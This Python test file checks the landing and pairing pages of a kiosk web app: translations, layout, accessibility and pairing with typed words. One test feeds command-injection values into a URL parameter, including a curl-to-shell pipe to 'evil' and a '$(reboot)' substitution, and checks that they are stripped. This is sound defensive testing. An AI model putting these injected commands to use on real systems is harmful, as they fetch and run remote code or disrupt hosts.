"""The landing page, and the three words with which a page without access gets it."""

import json
import unittest

from browser import KioskCase, plain
from built_daemon import IS_BUILT, BuiltDaemon
from stand_in import PAGES
from test_owner import overview
from test_scenes import LANGUAGES, SIZES

TABLE = {language: entry["strings"] for language, entry in json.loads((PAGES / "strings.json").read_text()).items()}
COMMANDS = {
    "kiosk": "countersign page-code --page kiosk --lane counter-1 --words",
    "clerk": "countersign page-code --page clerk --lane counter-1 --words",
    "desk": "countersign page-code --page desk --lane counter-1 --words",
    "owner": "countersign page-code --page owner --words",
}


class Pages(KioskCase):
    def visit(self, path, **options):
        """A page without a code."""
        page = self.context(**options).new_page()
        self.watch(page)
        page.goto(self.stand_in.url + path)
        page.wait_for_selector('body[data-screen]:not([data-screen="connecting"])')
        return page

    def type_words(self, page, words):
        page.wait_for_selector("[data-pairing] input")
        page.fill("[data-pairing] input", words)
        page.keyboard.press("Enter")

    def wait_refused(self, page):
        page.wait_for_selector(".pairing-message:not(:empty)")


class LandingTests(Pages):
    def test_the_landing_page_names_the_pages_and_no_lane_in_each_language(self):
        page = self.visit("/")
        for language in LANGUAGES:
            with self.subTest(language=language):
                page.goto(f"{self.stand_in.url}/?lang={language}")
                self.expect(page, "landing")
                words, strings = self.words(page), TABLE[language]
                for name in ("kiosk", "clerk", "desk", "owner", "docs"):
                    for key in (f"page.{name}", f"page.{name}.text"):
                        self.assertIn(strings[key], words)
                self.assertEqual(self.heading(page), strings["landing.head"])
                self.assertNotIn("counter-1", page.content())
                self.assertNotRegex(words, r"\b(page|landing|pairing)\.\w|\bundefined\b")
                self.assertEqual(page.evaluate("document.documentElement.dir"), "rtl" if language == "ar" else "ltr")
                self.assertFalse(page.is_visible("[data-opened]"))
        self.assertEqual({entry[1] for entry in self.asked("GET", "/v1/")}, {"/v1/page-sessions"})

    def test_the_landing_page_looks_well_in_each_size_by_day_and_in_the_dark(self):
        for size, language in (("landscape", "en"), ("upright", "ar"), ("handheld", "de")):
            width, height = SIZES[size]
            page = self.visit(f"/?lang={language}", viewport={"width": width, "height": height})
            for look in ("light", "dark"):
                page.emulate_media(color_scheme=look)
                self.shot(page, f"{language}-{look}-landing-{size}")
                self.assert_accessible(page)
            self.assertLessEqual(page.evaluate("document.documentElement.scrollWidth"), width)

    def test_words_open_their_page_and_the_landing_page_then_names_it(self):
        for page_name, lane, address in (("kiosk", "counter-1", "/kiosk?lane=counter-1"), ("clerk", "counter-1", "/clerk?lane=counter-1")):
            with self.subTest(page=page_name):
                self.stand_in.paired = (page_name, lane)
                page = self.visit("/")
                self.type_words(page, " Lamp River  STONE ")
                page.wait_for_url(self.stand_in.url + address)
                self.expect(page, "idle")
                page.goto(self.stand_in.url + "/")
                link = page.locator("[data-opened] a")
                self.assertEqual((link.get_attribute("href"), plain(page.inner_text("[data-opened] bdi"))), (address, f"Lane {lane}"))
                self.assert_accessible(page)
                self.shot(page, f"en-light-landing-opened-{page_name}")
                link.click()
                self.expect(page, "idle")

    def test_wrong_words_say_so_and_may_be_typed_again(self):
        page = self.visit("/")
        self.type_words(page, "lamp-river-sand")
        self.wait_refused(page)
        self.assertIn("do not open a page", page.inner_text(".pairing-message"))
        self.assert_accessible(page)
        self.shot(page, "en-light-landing-refused")
        self.assertEqual(page.evaluate("document.activeElement.id"), "pairing-words")
        self.type_words(page, self.stand_in.words)
        page.wait_for_url(self.stand_in.url + "/clerk?lane=counter-1")
        self.expect(page, "idle")
        self.complaints.clear()

    def test_without_an_answer_the_page_says_so_and_nothing_typed_is_no_try(self):
        page = self.visit("/")
        self.stand_in.failing = {"POST /v1/page-sessions": 503}
        page.click("[data-pairing] button")
        self.type_words(page, self.stand_in.words)
        self.wait_refused(page)
        self.assertEqual(page.inner_text(".pairing-message"), TABLE["en"]["pairing.failed"])
        self.assertEqual(len(self.asked("POST", "/v1/page-sessions")), 1)
        self.complaints.clear()


class WithoutAccessTests(Pages):
    def test_a_page_without_access_says_the_command_and_words_open_it(self):
        for layout, command in COMMANDS.items():
            with self.subTest(layout=layout):
                self.start_over()
                lane = None if layout == "owner" else "counter-1"
                self.stand_in.paired = (layout, lane)
                self.stand_in.overview = overview()
                page = self.visit(f"/{layout}{'' if lane is None else '?lane=counter-1'}")
                self.expect(page, "refused")
                page.wait_for_selector("[data-pairing] code")
                self.assertEqual(page.inner_text("[data-pairing] code"), command)
                self.type_words(page, self.stand_in.words)
                if lane is not None:
                    page.wait_for_selector('body[data-screen="idle"], body[data-screen="start"], body[data-screen="none"]')
                    self.assertFalse(page.is_visible("[data-pairing]"))
                else:
                    self.wait_asked(page, "GET", "/v1/owner", 2)
        self.complaints.clear()

    def test_the_form_looks_well_in_each_size_by_day_and_in_the_dark(self):
        for layout, size, language in (("kiosk", "landscape", "de"), ("kiosk", "upright", "ar"), ("kiosk", "handheld", "en"),
                                       ("clerk", "tablet", "ar"), ("clerk", "handheld", "de"), ("desk", "tablet", "en")):
            width, height = SIZES[size]
            page = self.visit(f"/{layout}?lane=counter-1&lang={language}", viewport={"width": width, "height": height})
            self.expect(page, "refused")
            page.fill("[data-pairing] input", "lamp-river")
            for look in ("light", "dark"):
                page.emulate_media(color_scheme=look)
                self.shot(page, f"{language}-{look}-refused-{layout}-{size}")
                self.assert_accessible(page)
            self.assertLessEqual(page.evaluate("document.documentElement.scrollWidth"), width)
        self.complaints.clear()

    def test_words_for_another_page_open_that_page(self):
        self.stand_in.paired = ("kiosk", "counter-1")
        page = self.visit("/clerk?lane=counter-1")
        self.type_words(page, self.stand_in.words)
        page.wait_for_url(self.stand_in.url + "/kiosk?lane=counter-1")
        self.expect(page, "idle")
        self.complaints.clear()

    def test_an_address_puts_nothing_into_the_command(self):
        page = self.visit("/clerk")
        for lane, shown in (("x;curl%20evil|sh", "xcurlevilsh"), ("%24(reboot)", "reboot"), ("--help", "LANE"), ("", "LANE")):
            page.goto(f"{self.stand_in.url}/clerk?lane={lane}")
            page.wait_for_selector("[data-pairing] code")
            self.assertEqual(page.inner_text("[data-pairing] code"), f"countersign page-code --page clerk --lane {shown} --words")
        self.complaints.clear()

    def test_what_is_typed_stays_when_the_language_changes(self):
        page = self.visit("/clerk?lane=counter-1")
        page.fill("[data-pairing] input", "lamp riv")
        page.select_option("[data-languages]", "de")
        page.wait_for_selector("html[lang=de]")
        self.assertEqual(page.input_value("[data-pairing] input"), "lamp riv")
        self.assertEqual(page.inner_text("[data-pairing] label"), TABLE["de"]["pairing.words"])
        self.complaints.clear()


@unittest.skipUnless(IS_BUILT, "countersignd is not built")
class BuiltDaemonTests(Pages):
    @classmethod
    def setUpClass(cls):
        cls.stand_in = BuiltDaemon(cls.addClassCleanup).serve()

    def words(self, page, lane="counter-1"):
        return json.loads(self.stand_in.ask("POST", "/v1/page-codes", {"page": page, "lane": lane, "kind": "words"}))["words"]

    def test_words_pair_a_page_once(self):
        words = self.words("clerk")
        page = self.visit("/")
        self.type_words(page, words.upper().replace("-", " "))
        page.wait_for_url(self.stand_in.url + "/clerk?lane=counter-1")
        self.expect(page, "idle")
        page.goto(self.stand_in.url + "/")
        self.assertEqual(page.locator("[data-opened] a").get_attribute("href"), "/clerk?lane=counter-1")
        other = self.visit("/")
        self.type_words(other, words)
        self.wait_refused(other)
        self.assertFalse(other.is_visible("[data-opened]"))
        self.complaints.clear()

    def test_five_wrong_tries_end_the_words(self):
        words = self.words("kiosk")
        page = self.visit("/")
        for _ in range(5):
            with page.expect_response("**/v1/page-sessions"):
                self.type_words(page, "wrong words here")
            page.wait_for_selector("[data-pairing] button:not([disabled])")
        self.type_words(page, words)
        self.wait_refused(page)
        self.type_words(page, self.words("kiosk"))
        page.wait_for_url(self.stand_in.url + "/kiosk?lane=counter-1")
        self.complaints.clear()
